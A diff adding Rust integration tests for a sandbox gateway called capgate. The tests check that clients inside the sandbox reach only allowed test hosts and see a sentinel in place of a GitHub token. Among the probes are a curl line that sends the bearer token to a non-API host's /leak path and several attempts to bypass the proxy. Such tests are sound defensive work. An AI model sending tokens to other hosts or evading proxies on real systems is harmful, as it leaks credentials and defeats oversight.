@@ -1,0 +1,409 @@
+//! `capgate run` end to end on the real kernel: real clients (curl, python3) inside the
+//! sandbox reach allowed local upstreams only through the gateway, get 403s with reasons
+//! elsewhere, see sentinels instead of secrets, and cannot get around the gateway.
+#![allow(
+    clippy::unwrap_used,
+    clippy::expect_used,
+    clippy::panic,
+    reason = "tests"
+)]
+
+use std::io::{BufRead as _, BufReader, Read as _, Write as _};
+use std::net::TcpListener;
+use std::path::PathBuf;
+use std::process::{Command, Output, Stdio};
+use std::sync::{Arc, Mutex};
+
+use capgate_gateway::tls::CertificateAuthority;
+
+const BIN: &str = env!("CARGO_BIN_EXE_capgate");
+
+type Seen = Arc<Mutex<Vec<String>>>;
+
+/// A plain HTTP/1.1 upstream on loopback that answers `200 ok <path>` and records heads.
+fn http_upstream() -> (u16, Seen) {
+    let l = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = l.local_addr().unwrap().port();
+    let seen: Seen = Arc::default();
+    let s2 = Arc::clone(&seen);
+    std::thread::spawn(move || {
+        for stream in l.incoming().flatten() {
+            let seen = Arc::clone(&s2);
+            std::thread::spawn(move || serve(stream, &seen));
+        }
+    });
+    (port, seen)
+}
+
+fn serve<S: std::io::Read + std::io::Write>(stream: S, seen: &Seen) {
+    let mut r = BufReader::new(stream);
+    loop {
+        let mut head = String::new();
+        loop {
+            let mut line = String::new();
+            if r.read_line(&mut line).unwrap_or(0) == 0 {
+                return;
+            }
+            if line == "\r\n" {
+                break;
+            }
+            head.push_str(&line);
+        }
+        let path = head.split_whitespace().nth(1).unwrap_or("/").to_owned();
+        seen.lock().unwrap().push(head);
+        let body = format!("ok {path}\n");
+        let resp = format!(
+            "HTTP/1.1 200 OK\r\nContent-Length: {}\r\n\r\n{body}",
+            body.len()
+        );
+        if r.get_mut().write_all(resp.as_bytes()).is_err() {
+            return;
+        }
+    }
+}
+
+/// An HTTPS upstream for `name`, with a certificate from `ca`.
+fn https_upstream(ca: &CertificateAuthority, name: &str) -> (u16, Seen) {
+    let config = ca.server_config_for(name).unwrap();
+    let l = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = l.local_addr().unwrap().port();
+    let seen: Seen = Arc::default();
+    let s2 = Arc::clone(&seen);
+    std::thread::spawn(move || {
+        for stream in l.incoming().flatten() {
+            let seen = Arc::clone(&s2);
+            let config = Arc::clone(&config);
+            std::thread::spawn(move || {
+                let Ok(conn) = rustls::ServerConnection::new(config) else {
+                    return;
+                };
+                serve(rustls::StreamOwned::new(conn, stream), &seen);
+            });
+        }
+    });
+    (port, seen)
+}
+
+struct Env {
+    tmp: tempfile::TempDir,
+}
+
+impl Env {
+    fn path(&self, p: &str) -> PathBuf {
+        self.tmp.path().join(p)
+    }
+
+    fn capgate(&self, args: &[&str], stdin: Option<&str>) -> Output {
+        let mut cmd = Command::new(BIN);
+        cmd.args(args)
+            .current_dir(self.path("ws"))
+            .env("CAPGATE_HOME", self.path("home"))
+            .stdout(Stdio::piped())
+            .stderr(Stdio::piped())
+            .stdin(if stdin.is_some() {
+                Stdio::piped()
+            } else {
+                Stdio::null()
+            });
+        let mut child = cmd.spawn().unwrap();
+        if let Some(s) = stdin {
+            child.stdin.take().unwrap().write_all(s.as_bytes()).unwrap();
+        }
+        child.wait_with_output().unwrap()
+    }
+}
+
+fn setup() -> Env {
+    let tmp = tempfile::tempdir().unwrap();
+    std::fs::create_dir_all(tmp.path().join("ws")).unwrap();
+    std::fs::write(tmp.path().join("ws/notes.txt"), "workspace file\n").unwrap();
+    Env { tmp }
+}
+
+fn out(o: &Output) -> (String, String) {
+    (
+        String::from_utf8_lossy(&o.stdout).into_owned(),
+        String::from_utf8_lossy(&o.stderr).into_owned(),
+    )
+}
+
+/// One line per probe: `name=result`.
+fn probes(stdout: &str) -> std::collections::BTreeMap<String, String> {
+    stdout
+        .lines()
+        .filter_map(|l| l.split_once('='))
+        .map(|(k, v)| (k.trim().to_owned(), v.trim().to_owned()))
+        .collect()
+}
+
+#[test]
+fn real_clients_go_through_the_gateway_and_nowhere_else() {
+    let env = setup();
+    let up_ca = CertificateAuthority::load_or_create(&env.path("upstream-ca")).unwrap();
+    let (plain, plain_seen) = http_upstream();
+    let (install, install_seen) = http_upstream();
+    let (api, api_seen) = https_upstream(&up_ca, "api.test");
+    std::fs::create_dir_all(env.path("kit")).unwrap();
+    std::fs::write(
+        env.path("kit/kit.yaml"),
+        format!(
+            r#"schemaVersion: "3"
+kind: workload
+capabilities:
+  - type: com.docker.sandbox/network-policy@1
+    config:
+      install: {{allow: [install.test]}}
+      runtime: {{allow: [plain.test, api.test]}}
+  - type: com.docker.sandbox/credential@1
+    config:
+      service: github
+      phase: runtime
+      apiKey: {{name: GH_TOKEN, proxyManaged: true, inject: [{{domain: api.test}}]}}
+  - type: com.docker.sandbox/lifecycle@1
+    config:
+      install:
+        - command: ["sh", "-c", "curl -s -o /dev/null -w '%{{http_code}}' http://install.test:{install}/at-install > /tmp/install-result"]
+"#
+        ),
+    )
+    .unwrap();
+    let o = env.capgate(
+        &["secret", "set", "github"],
+        Some("ghp_real_secret_value\n"),
+    );
+    assert_eq!(o.status.code(), Some(0), "{:?}", out(&o));
+
+    let script = format!(
+        r#"
+c() {{ curl -s -o /dev/null -w '%{{http_code}}' --max-time 10 "$@"; }}
+echo "curl_allowed=$(c http://plain.test:{plain}/curl)"
+echo "python_allowed=$(python3 -c 'import urllib.request as u; print(u.urlopen("http://plain.test:{plain}/python").status)' 2>&1)"
+echo "curl_refused=$(curl -s --max-time 10 http://refused.test/ | grep -o 'reason: [a-z_]*')"
+echo "python_refused=$(python3 -c '
+import urllib.request as u, urllib.error as e
+try:
+    u.urlopen("http://refused.test/")
+except e.HTTPError as err:
+    print(err.code, err.headers.get("X-Capgate-Reason"))
+' 2>&1)"
+echo "sentinel=$(printenv GH_TOKEN | cut -c1-24)"
+echo "secret_in_env=$(env | grep -c ghp_real_secret_value)"
+echo "api_with_token=$(c -H "Authorization: Bearer $GH_TOKEN" https://api.test:{api}/repos)"
+echo "exfil=$(curl -s --max-time 10 -H "Authorization: Bearer $GH_TOKEN" http://plain.test:{plain}/leak | grep -o 'reason: [a-z_]*')"
+echo "install_at_runtime=$(c http://install.test:{install}/at-runtime)"
+echo "install_during_hook=$(cat /tmp/install-result)"
+echo "noproxy=$(curl -s -o /dev/null -w '%{{http_code}}' --max-time 5 --noproxy '*' http://plain.test:{plain}/direct; echo " exit $?")"
+echo "raw_loopback=$(python3 -c '
+import socket
+try:
+    socket.create_connection(("127.0.0.1", {plain}), timeout=3); print("connected")
+except OSError as err:
+    print("refused", err.errno)
+')"
+echo "dns_refused=$(python3 -c '
+import socket
+try:
+    print(socket.gethostbyname("refused.test"))
+except OSError:
+    print("no such name")
+')"
+echo "workspace=$(cat notes.txt)"
+"#
+    );
+    std::fs::write(env.path("ws/probe.sh"), &script).unwrap();
+    let upstream_ca = env.path("upstream-ca/ca.pem");
+    let o = env.capgate(
+        &[
+            "run",
+            "--kit",
+            env.path("kit").to_str().unwrap(),
+            "--upstream-ca",
+            upstream_ca.to_str().unwrap(),
+            "--dangerously-resolve",
+            "plain.test=127.0.0.1",
+            "--dangerously-resolve",
+            "api.test=127.0.0.1",
+            "--dangerously-resolve",
+            "install.test=127.0.0.1",
+            "--",
+            "sh",
+            "probe.sh",
+        ],
+        None,
+    );
+    let (stdout, stderr) = out(&o);
+    assert_eq!(o.status.code(), Some(0), "{stdout}\n{stderr}");
+    let p = probes(&stdout);
+    let expect = |k: &str, v: &str| {
+        assert_eq!(
+            p.get(k).map(String::as_str),
+            Some(v),
+            "{k} in:\n{stdout}\n{stderr}"
+        )
+    };
+    expect("curl_allowed", "200");
+    expect("python_allowed", "200");
+    expect("curl_refused", "reason: no_matching_allow");
+    expect("python_refused", "403 no_matching_allow");
+    expect("sentinel", "capgate-sentinel-github-");
+    expect("secret_in_env", "0");
+    expect("api_with_token", "200");
+    expect("exfil", "reason: credential_exfiltration");
+    expect("install_at_runtime", "403");
+    expect("install_during_hook", "200");
+    assert!(
+        p["noproxy"].starts_with("000"),
+        "a direct connection fails closed: {stdout}"
+    );
+    assert!(
+        p["raw_loopback"].starts_with("refused"),
+        "the host's loopback is unreachable: {stdout}"
+    );
+    expect("dns_refused", "no such name");
+    expect("workspace", "workspace file");
+
+    // What the upstreams saw: only the allowed requests, the real secret only on api.test.
+    let plain_paths: Vec<String> = plain_seen
+        .lock()
+        .unwrap()
+        .iter()
+        .map(|h| h.split_whitespace().nth(1).unwrap().to_owned())
+        .collect();
+    assert_eq!(plain_paths, ["/curl", "/python"], "{plain_paths:?}");
+    let api_heads = api_seen.lock().unwrap().clone();
+    assert_eq!(api_heads.len(), 1);
+    assert!(
+        api_heads[0].contains("Bearer ghp_real_secret_value"),
+        "{api_heads:?}"
+    );
+    let install_paths: Vec<String> = install_seen
+        .lock()
+        .unwrap()
+        .iter()
+        .map(|h| h.split_whitespace().nth(1).unwrap().to_owned())
+        .collect();
+    assert_eq!(install_paths, ["/at-install"]);
+
+    // The run ends with a summary of what was refused.
+    assert!(stderr.contains("refused in sandbox"), "{stderr}");
+    assert!(
+        stderr.contains("refused.test:80") && stderr.contains("no_matching_allow"),
+        "{stderr}"
+    );
+    assert!(stderr.contains("credential_exfiltration"), "{stderr}");
+}
+
+#[test]
+fn the_default_workload_shows_a_refusal_and_exit_codes_follow_the_contract() {
+    let env = setup();
+    // The README's first command, minus cargo.
+    let o = env.capgate(
+        &[
+            "run",
+            "--",
+            "python3",
+            "-c",
+            "import urllib.request; urllib.request.urlopen('https://example.com')",
+        ],
+        None,
+    );
+    let (_, stderr) = out(&o);
+    assert_eq!(
+        o.status.code(),
+        Some(1),
+        "python exits 1 on the refused request: {stderr}"
+    );
+    assert!(stderr.contains("403 Forbidden"), "{stderr}");
+    assert!(
+        stderr.contains("example.com:443: no_matching_allow"),
+        "{stderr}"
+    );
+
+    let o = env.capgate(
+        &[
+            "run",
+            "--fail-on-violation",
+            "--",
+            "sh",
+            "-c",
+            "curl -s https://example.com >/dev/null; exit 0",
+        ],
+        None,
+    );
+    assert_eq!(o.status.code(), Some(3), "{:?}", out(&o));
+    let o = env.capgate(&["run", "--fail-on-violation", "--", "true"], None);
+    assert_eq!(o.status.code(), Some(0), "{:?}", out(&o));
+    let o = env.capgate(&["run", "--", "sh", "-c", "exit 7"], None);
+    assert_eq!(o.status.code(), Some(7));
+    let o = env.capgate(&["run", "--", "/no/such/program"], None);
+    assert_eq!(o.status.code(), Some(127), "{:?}", out(&o));
+
+    // The workspace is a copy: the host file is untouched; ephemeral runs leave no sandbox.
+    let o = env.capgate(
+        &[
+            "run",
+            "--",
+            "sh",
+            "-c",
+            "echo changed > notes.txt; cat notes.txt",
+        ],
+        None,
+    );
+    assert_eq!(out(&o).0, "changed\n");
+    assert_eq!(
+        std::fs::read_to_string(env.path("ws/notes.txt")).unwrap(),
+        "workspace file\n"
+    );
+    let o = env.capgate(&["ls", "--json"], None);
+    let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
+    assert!(v["sandboxes"].as_array().unwrap().is_empty(), "{v}");
+
+    // --mount writes through.
+    let o = env.capgate(
+        &[
+            "run",
+            "--mount",
+            "--",
+            "sh",
+            "-c",
+            "echo mounted > notes.txt",
+        ],
+        None,
+    );
+    assert_eq!(o.status.code(), Some(0), "{:?}", out(&o));
+    assert_eq!(
+        std::fs::read_to_string(env.path("ws/notes.txt")).unwrap(),
+        "mounted\n"
+    );
+}
+
+#[test]
+fn nothing_survives_the_run() {
+    let env = setup();
+    // A sleep with a duration no one else uses, left running in the background.
+    let secs = 300_000 + std::process::id() % 10_000;
+    let marker = format!("sleep\0{secs}");
+    let o = env.capgate(
+        &[
+            "run",
+            "--",
+            "sh",
+            "-c",
+            &format!("(sleep {secs} &) ; sleep 0.2; echo started"),
+        ],
+        None,
+    );
+    assert_eq!(out(&o).0, "started\n", "{:?}", out(&o));
+    std::thread::sleep(std::time::Duration::from_millis(300));
+    let mut ps = String::new();
+    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
+        if let Ok(mut f) = std::fs::File::open(entry.path().join("cmdline")) {
+            let mut s = String::new();
+            let _ = f.read_to_string(&mut s);
+            if s.contains(&marker) {
+                ps.push_str(&s);
+            }
+        }
+    }
+    assert!(ps.is_empty(), "a process outlived its sandbox: {ps}");
+}
